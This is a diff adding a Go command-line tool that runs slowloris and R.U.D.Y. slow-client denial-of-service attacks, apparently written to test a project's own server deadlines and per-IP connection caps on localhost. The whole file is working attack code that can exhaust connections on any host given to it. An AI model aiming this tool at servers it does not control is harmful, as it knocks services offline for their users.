@@ -0,0 +1,195 @@
+// Slow-client attack generator, for trying the deadlines and connection
+// caps in server.go / server_keepalive.go locally. Do not point it at
+// servers you don't run.
+//
+// Opens many connections that each send a request as slowly as possible,
+// while a probe sends one normal request per second and reports whether
+// the server still answers it.
+//
+// Modes:
+// - headers: the classic slowloris - a request line, then one more header
+//   line every -interval, never the blank line that ends the header
+// - body:    a complete header announcing a large body, then one body
+//   byte every -interval (R.U.D.Y.)
+// - idle:    connect and send nothing
+//
+// Without protection the attack holds every connection the server will
+// give it and the probe starts failing; with it, the attack connections
+// are refused (503) past the per-IP cap or cut off (408) by the deadlines.
+//
+// The per-IP cap counts source addresses, so on Linux run the attack from
+// a second loopback address to keep the probe's own share free:
+//
+//	go run slowloris.go -host localhost:8084 -conns 300 -from 127.0.0.2
+
+package main
+
+import (
+	"bufio"
+	"flag"
+	"fmt"
+	"net"
+	"os"
+	"os/signal"
+	"strings"
+	"sync/atomic"
+	"time"
+)
+
+// attackStats counts what happened to the attack connections
+type attackStats struct {
+	dialed     atomic.Int64 // Connections established
+	dialFailed atomic.Int64
+	open       atomic.Int64 // Still holding a socket
+	rejected   atomic.Int64 // Answered 503 (admission cap)
+	timedOut   atomic.Int64 // Answered 408 (header/body deadline)
+	closed     atomic.Int64 // Closed by the server without a response
+	otherReply atomic.Int64
+}
+
+func main() {
+	host := flag.String("host", "localhost:8083", "server address")
+	conns := flag.Int("conns", 200, "attack connections")
+	mode := flag.String("mode", "headers", "headers, body or idle")
+	interval := flag.Duration("interval", 5*time.Second, "delay between trickled bytes")
+	duration := flag.Duration("duration", 60*time.Second, "how long to run")
+	from := flag.String("from", "", "local IP for attack connections (e.g. 127.0.0.2)")
+	flag.Parse()
+
+	if *mode != "headers" && *mode != "body" && *mode != "idle" {
+		fmt.Printf("Unknown mode %q\n", *mode)
+		os.Exit(2)
+	}
+
+	dialer := &net.Dialer{Timeout: 5 * time.Second}
+	if *from != "" {
+		dialer.LocalAddr = &net.TCPAddr{IP: net.ParseIP(*from)}
+	}
+
+	fmt.Printf("Slow %s attack on %s: %d connections, one write per %v, for %v\n",
+		*mode, *host, *conns, *interval, *duration)
+
+	stats := &attackStats{}
+	stop := make(chan struct{})
+	for i := 0; i < *conns; i++ {
+		go attack(dialer, *host, *mode, *interval, stats, stop)
+		time.Sleep(5 * time.Millisecond) // Ramp up rather than SYN-flood
+	}
+
+	interrupt := make(chan os.Signal, 1)
+	signal.Notify(interrupt, os.Interrupt)
+	deadline := time.After(*duration)
+	ticker := time.NewTicker(time.Second)
+	defer ticker.Stop()
+
+	probesOK, probesFailed := 0, 0
+	for {
+		select {
+		case <-ticker.C:
+			status, latency, err := probe(*host)
+			result := fmt.Sprintf("%d in %v", status, latency.Round(time.Millisecond))
+			if err != nil {
+				result = "FAILED: " + err.Error()
+				probesFailed++
+			} else if status != 200 {
+				probesFailed++
+			} else {
+				probesOK++
+			}
+			fmt.Printf("open=%-4d dialed=%-4d dial_failed=%-4d 503=%-4d 408=%-4d closed=%-4d | probe %s\n",
+				stats.open.Load(), stats.dialed.Load(), stats.dialFailed.Load(),
+				stats.rejected.Load(), stats.timedOut.Load(), stats.closed.Load(), result)
+		case <-deadline:
+			close(stop)
+			fmt.Printf("\nDone: probes %d ok, %d failed\n", probesOK, probesFailed)
+			return
+		case <-interrupt:
+			close(stop)
+			fmt.Printf("\nInterrupted: probes %d ok, %d failed\n", probesOK, probesFailed)
+			return
+		}
+	}
+}
+
+// attack holds one connection open as long as the server allows
+func attack(dialer *net.Dialer, host, mode string, interval time.Duration, stats *attackStats, stop <-chan struct{}) {
+	conn, err := dialer.Dial("tcp", host)
+	if err != nil {
+		stats.dialFailed.Add(1)
+		return
+	}
+	defer conn.Close()
+	stats.dialed.Add(1)
+	stats.open.Add(1)
+	defer stats.open.Add(-1)
+
+	// Whatever the server says (or a hang-up) ends this connection
+	gone := make(chan struct{})
+	go func() {
+		defer close(gone)
+		line, err := bufio.NewReader(conn).ReadString('\n')
+		switch {
+		case err != nil && line == "":
+			stats.closed.Add(1)
+		case strings.Contains(line, " 503 "):
+			stats.rejected.Add(1)
+		case strings.Contains(line, " 408 "):
+			stats.timedOut.Add(1)
+		default:
+			stats.otherReply.Add(1)
+		}
+	}()
+
+	switch mode {
+	case "headers":
+		fmt.Fprintf(conn, "GET / HTTP/1.1\r\nHost: %s\r\n", host)
+	case "body":
+		fmt.Fprintf(conn, "POST /api/echo HTTP/1.1\r\nHost: %s\r\nContent-Type: text/plain\r\nContent-Length: 1000000\r\n\r\n", host)
+	}
+
+	ticker := time.NewTicker(interval)
+	defer ticker.Stop()
+	for n := 0; ; n++ {
+		select {
+		case <-stop:
+			return
+		case <-gone:
+			return
+		case <-ticker.C:
+		}
+
+		var err error
+		switch mode {
+		case "headers":
+			_, err = fmt.Fprintf(conn, "X-Slow-%d: %d\r\n", n, n)
+		case "body":
+			_, err = conn.Write([]byte{'a'})
+		}
+		if err != nil {
+			return
+		}
+	}
+}
+
+// probe sends one ordinary request and returns its status and latency
+func probe(host string) (int, time.Duration, error) {
+	start := time.Now()
+	conn, err := net.DialTimeout("tcp", host, 2*time.Second)
+	if err != nil {
+		return 0, 0, err
+	}
+	defer conn.Close()
+	conn.SetDeadline(time.Now().Add(3 * time.Second))
+
+	fmt.Fprintf(conn, "GET /api/time HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n\r\n", host)
+	line, err := bufio.NewReader(conn).ReadString('\n')
+	if err != nil {
+		return 0, time.Since(start), err
+	}
+
+	var status int
+	if _, err := fmt.Sscanf(line, "HTTP/1.1 %d", &status); err != nil {
+		return 0, time.Since(start), fmt.Errorf("bad status line %q", line)
+	}
+	return status, time.Since(start), nil
+}